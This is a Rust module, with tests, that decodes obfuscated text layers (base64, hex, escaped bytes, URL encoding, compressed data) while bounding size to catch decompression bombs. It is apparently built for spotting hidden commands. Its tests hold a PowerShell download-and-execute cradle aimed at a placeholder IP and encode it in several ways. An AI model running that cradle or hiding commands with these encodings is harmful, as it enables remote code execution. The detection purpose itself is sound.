//! What is hidden in a text: base64 in UTF-16 or UTF-8, hexadecimal digits, bytes written out one by one, letters as a
//! URL writes them, compressed or not, one layer inside another.
//!
//! Everything is bounded: how many layers, how deep, how large each and how large all together. What unfolds to more
//! than that (a decompression bomb) is read as far as the bound and said to be ([`Layers::refused`]).

use std::io::Read;

use base64::Engine;
use base64::engine::general_purpose::STANDARD_NO_PAD;
use flate2::read::{DeflateDecoder, GzDecoder, ZlibDecoder};

/// Most texts that are unwrapped, the outermost included.
const MOST_LAYERS: usize = 16;

/// How deep one lies inside another.
const DEEPEST: usize = 6;

/// Shortest run of base64 or hexadecimal digits that is worth decoding, in characters.
const SHORTEST_ENCODED: usize = 24;

/// Fewest bytes that are written out one by one, or letters written as a URL does, before they are put together.
const FEWEST_BYTES: usize = 8;

/// Most bytes that a compressed layer may become.
const MOST_BYTES: u64 = 1 << 20;

/// Most bytes that all layers below the text itself may have together.
const MOST_TOGETHER: usize = 4 << 20;

/// A text and everything that could be unwrapped from it, outermost first.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Layers {
    /// The texts.
    pub texts: Vec<String>,
    /// How deep the innermost lies: 1 if nothing was hidden. An ordinary URL hides nothing.
    pub depth: usize,
    /// What was not unwrapped to its end, and why.
    pub refused: Vec<String>,
}

/// A text that lay inside another.
struct Inner {
    text: String,
    /// It was hidden there, and not merely written as its place demands.
    hidden: bool,
}

/// Unwraps a text. Every run is looked at, not only the longest: a harmless one beside it hides nothing.
#[must_use]
pub fn layers(text: &str) -> Layers {
    let mut all = vec![(text.to_owned(), 1)];
    let (mut first, mut together) = (0, 0);
    let mut refused = Vec::new();
    for _ in 0..DEEPEST {
        let end = all.len();
        for at in first..end {
            let (text, depth) = all[at].clone();
            for Inner { text, hidden } in hidden_in(&text, &mut refused) {
                if all.len() == MOST_LAYERS || together + text.len() > MOST_TOGETHER {
                    note(
                        &mut refused,
                        format!(
                            "more than {MOST_LAYERS} layers or {MOST_TOGETHER} bytes of them: the rest was not unwrapped"
                        ),
                    );
                    break;
                }
                if all.iter().all(|(known, _)| *known != text) {
                    together += text.len();
                    all.push((text, depth + usize::from(hidden)));
                }
            }
        }
        if all.len() == end {
            break;
        }
        first = end;
    }
    let depth = all.iter().map(|(_, depth)| *depth).max().unwrap_or(1);
    Layers { texts: all.into_iter().map(|(text, _)| text).collect(), depth, refused }
}

fn note(refused: &mut Vec<String>, what: String) {
    if !refused.contains(&what) {
        refused.push(what);
    }
}

/// The readable texts behind what is encoded, the longest runs first.
fn hidden_in(text: &str, refused: &mut Vec<String>) -> Vec<Inner> {
    let of_base64 = |c: char| c.is_ascii_alphanumeric() || matches!(c, '+' | '/' | '=');
    let mut runs: Vec<&str> = text.split(|c| !of_base64(c)).filter(|run| run.len() >= SHORTEST_ENCODED).collect();
    runs.sort_by_key(|run| std::cmp::Reverse(run.len()));
    // Bytes of a run may be readable in two ways; digits that are hexadecimal are read as such.
    let mut found: Vec<Inner> = runs
        .into_iter()
        .filter_map(|run| of_digits(run, refused).or_else(|| of_letters(run, refused)))
        .take(MOST_LAYERS)
        .map(|text| Inner { text, hidden: true })
        .collect();
    found.extend(
        bytes_one_by_one(text).and_then(|bytes| read(&bytes, refused)).map(|text| Inner { text, hidden: true }),
    );
    found.extend(of_url(text));
    found
}

/// A run of hexadecimal digits.
fn of_digits(run: &str, refused: &mut Vec<String>) -> Option<String> {
    let digits = run.strip_prefix("0x").or_else(|| run.strip_prefix("0X")).unwrap_or(run);
    if digits.len() < SHORTEST_ENCODED || !digits.len().is_multiple_of(2) {
        return None;
    }
    let bytes: Option<Vec<u8>> = digits.as_bytes().chunks_exact(2).map(byte).collect();
    read(&bytes?, refused).filter(|text| text.contains(|c: char| c.is_ascii_alphabetic()))
}

/// A run of base64.
fn of_letters(run: &str, refused: &mut Vec<String>) -> Option<String> {
    let run = run.trim_end_matches('=');
    let whole = &run[..run.len() - usize::from(run.len() % 4 == 1)];
    read(&STANDARD_NO_PAD.decode(whole).ok()?, refused)
}

/// Bytes that a text writes out one by one: `\x49\x45\x58`, `0x49,0x45,0x58`.
fn bytes_one_by_one(text: &str) -> Option<Vec<u8>> {
    let text = text.as_bytes();
    let mut bytes = Vec::new();
    for at in 0..text.len().saturating_sub(3) {
        if matches!(&text[at..at + 2], b"\\x" | b"0x" | b"0X")
            && text.get(at + 4).is_none_or(|next| !next.is_ascii_hexdigit())
        {
            bytes.extend(byte(&text[at + 2..at + 4]));
        }
    }
    (bytes.len() >= FEWEST_BYTES).then_some(bytes)
}

/// The text as it is without a URL's way of writing. It hides something if letters or digits are written so, which no
/// URL needs.
fn of_url(text: &str) -> Option<Inner> {
    let bytes = text.as_bytes();
    let (mut plain, mut at, mut decoded, mut letters) = (Vec::with_capacity(bytes.len()), 0, 0, 0);
    while at < bytes.len() {
        let encoded = bytes.get(at + 1..at + 3).filter(|_| bytes[at] == b'%').and_then(byte);
        if let Some(value) = encoded {
            decoded += 1;
            letters += usize::from(value.is_ascii_alphanumeric());
            plain.push(value);
            at += 3;
        } else {
            plain.push(bytes[at]);
            at += 1;
        }
    }
    let hidden = letters >= FEWEST_BYTES;
    // `%AD` may as well begin the name of a variable: one or two are no encoding.
    let text = String::from_utf8(plain).ok().filter(|text| decoded >= 3 && is_readable(text))?;
    Some(Inner { text, hidden })
}

/// A byte of two hexadecimal digits.
fn byte(digits: &[u8]) -> Option<u8> {
    let value = |digit: u8| char::from(digit).to_digit(16);
    let [high, low] = digits else { return None };
    u8::try_from(value(*high)? * 16 + value(*low)?).ok()
}

/// Bytes as a text, unfolded first if need be.
fn read(bytes: &[u8], refused: &mut Vec<String>) -> Option<String> {
    readable(bytes).or_else(|| {
        let Unfolded { bytes, whole } = unfolded(bytes)?;
        if !whole {
            note(refused, format!("a compressed part unfolds to more than {MOST_BYTES} bytes, as a decompression bomb does: only its beginning was read"));
        }
        readable(&bytes)
    })
}

struct Unfolded {
    bytes: Vec<u8>,
    whole: bool,
}

/// Compressed bytes, as far as they unfold within the bound.
fn unfolded(bytes: &[u8]) -> Option<Unfolded> {
    let mut out = Vec::new();
    let within = MOST_BYTES + 1;
    let read = match bytes {
        [0x1f, 0x8b, ..] => GzDecoder::new(bytes).take(within).read_to_end(&mut out),
        // The first bytes of zlib: a window of 32 KiB, and a check over both.
        [0x78, second, ..] if (0x7800 + u16::from(*second)).is_multiple_of(31) => {
            ZlibDecoder::new(bytes).take(within).read_to_end(&mut out)
        }
        _ => DeflateDecoder::new(bytes).take(within).read_to_end(&mut out),
    };
    let whole = out.len() as u64 <= MOST_BYTES;
    out.truncate(usize::try_from(MOST_BYTES).unwrap_or(usize::MAX));
    // What came before an error is still what was hidden.
    (read.is_ok() || !out.is_empty()).then_some(Unfolded { bytes: out, whole })
}

fn readable(bytes: &[u8]) -> Option<String> {
    let wide: Vec<u16> = bytes.chunks_exact(2).map(|pair| u16::from_le_bytes([pair[0], pair[1]])).collect();
    let candidates = [String::from_utf16(&wide).ok(), String::from_utf8(bytes.to_vec()).ok()];
    candidates.into_iter().flatten().find(|text| is_readable(text))
}

fn is_readable(text: &str) -> bool {
    let total = text.chars().count();
    let plain = text.chars().filter(|c| c.is_ascii_graphic() || matches!(c, ' ' | '\n' | '\r' | '\t')).count();
    total >= 8 && plain * 10 >= total * 9
}

#[cfg(test)]
mod tests {
    use std::io::Write;

    use base64::engine::general_purpose::STANDARD;
    use flate2::Compression;
    use flate2::write::{DeflateEncoder, GzEncoder};

    use super::*;

    #[test]
    fn a_longer_harmless_run_hides_no_other() {
        let secret = STANDARD.encode("IEX (New-Object Net.WebClient)");
        let noise = STANDARD.encode("a long and harmless text that is only there to be longer than the other one");
        let found = layers(&format!("powershell {noise} {secret}"));
        assert!(found.texts.iter().any(|text| text.contains("Net.WebClient")), "{found:?}");
        assert_eq!(found.depth, 2);
    }

    #[test]
    fn compressed_layers_are_unfolded() {
        let text = b"$a = 'something that is run in memory'; $a".repeat(4);
        let mut gzip = GzEncoder::new(Vec::new(), Compression::default());
        gzip.write_all(&text).expect("it is packed");
        let mut deflate = DeflateEncoder::new(Vec::new(), Compression::default());
        deflate.write_all(&text).expect("it is packed");
        for packed in [gzip.finish().expect("whole"), deflate.finish().expect("whole")] {
            let found = layers(&format!("[Convert]::FromBase64String('{}')", STANDARD.encode(packed)));
            assert!(found.texts.iter().any(|text| text.contains("run in memory")), "{found:?}");
        }
    }

    const COMMAND: &str = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')";

    fn digits(bytes: &[u8]) -> String {
        bytes.iter().map(|byte| format!("{byte:02x}")).collect()
    }

    fn wide(text: &str) -> Vec<u8> {
        text.encode_utf16().flat_map(u16::to_le_bytes).collect()
    }

    fn zipped(text: &[u8]) -> Vec<u8> {
        let mut gzip = GzEncoder::new(Vec::new(), Compression::default());
        gzip.write_all(text).expect("it is packed");
        gzip.finish().expect("whole")
    }

    #[test]
    fn every_way_of_writing_bytes_is_read() {
        let mut zlib = flate2::write::ZlibEncoder::new(Vec::new(), Compression::default());
        zlib.write_all(COMMAND.as_bytes()).expect("it is packed");
        let zlib = zlib.finish().expect("whole");
        let one_by_one = |before: &str, between: &str| {
            COMMAND.bytes().map(|byte| format!("{before}{byte:02X}")).collect::<Vec<_>>().join(between)
        };
        let written = [
            ("hexadecimal", digits(COMMAND.as_bytes())),
            ("hexadecimal with a prefix", format!("0x{}", digits(COMMAND.as_bytes()).to_uppercase())),
            ("hexadecimal of UTF-16", digits(&wide(COMMAND))),
            ("base64 of UTF-16, as PowerShell takes it", STANDARD.encode(wide(COMMAND))),
            ("zlib in base64", STANDARD.encode(zlib)),
            ("gzip in hexadecimal", digits(&zipped(COMMAND.as_bytes()))),
            ("escaped bytes", one_by_one("\\x", "")),
            ("a list of bytes", one_by_one("0x", ", ")),
            ("a URL's letters", one_by_one("%", "")),
        ];
        for (how, text) in written {
            let found = layers(&format!("run '{text}' now"));
            assert!(found.texts.iter().skip(1).any(|text| text.contains("DownloadString")), "{how}: {found:?}");
            assert_eq!((found.depth, found.refused.len()), (2, 0), "{how}");
        }
        let nested =
            STANDARD.encode(wide(&format!("x {}", digits(STANDARD.encode(zipped(COMMAND.as_bytes())).as_bytes()))));
        let found = layers(&nested);
        assert_eq!(found.texts.last().map(String::as_str), Some(COMMAND));
        assert_eq!(found.depth, 4);
    }

    #[test]
    fn what_is_only_written_as_its_place_demands_hides_nothing() {
        let url = layers("curl https://intranet.example/a%20file%20with%20spaces.txt");
        assert_eq!(url.depth, 1, "{url:?}");
        assert!(url.texts[1].ends_with("a file with spaces.txt"));
        for plain in [
            r"%ADDRESS% %APPDATA% copy a b",
            "certutil -hashfile a.iso e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
            "{0a1b2c3d-0001-0002-0200-000000000700} 202020202020202020202020",
        ] {
            assert_eq!(layers(plain).texts.len(), 1, "{plain}");
        }
    }

    #[test]
    fn a_bomb_is_read_as_far_as_the_bound_and_said_to_be_one() {
        let mut text = b"Invoke-Something -Quietly; ".to_vec();
        text.resize(64 << 20, b'A');
        let bomb = STANDARD.encode(zipped(&text));
        let found = layers(&format!("[Convert]::FromBase64String('{bomb}')"));
        assert!(found.texts[1].starts_with("Invoke-Something") && found.texts[1].len() <= 1 << 20);
        assert!(found.refused[0].contains("decompression bomb"), "{:?}", found.refused);
        let together: usize = found.texts.iter().skip(1).map(String::len).sum();
        assert!(together <= MOST_TOGETHER);
        // Many of them side by side are no way around the bound.
        let many: String = (0..12)
            .map(|number| {
                let mut text = format!("Invoke-Number{number}; ").into_bytes();
                text.resize(2 << 20, b'A');
                format!("{} ", STANDARD.encode(zipped(&text)))
            })
            .collect();
        let found = layers(&many);
        let together: usize = found.texts.iter().skip(1).map(String::len).sum();
        assert!(together <= MOST_TOGETHER && found.refused.len() == 2, "{:?}", found.refused);
    }

    #[test]
    fn anything_can_be_unwrapped_in_no_time() {
        let begun = std::time::Instant::now();
        for part in ["QUJD", "H4sI", "=", "a b", "41", "%41", "\\x41", "0x41,", "%"] {
            assert!(layers(&part.repeat(50_000)).texts.len() <= MOST_LAYERS);
        }
        assert!(begun.elapsed().as_secs() < 10);
    }
}
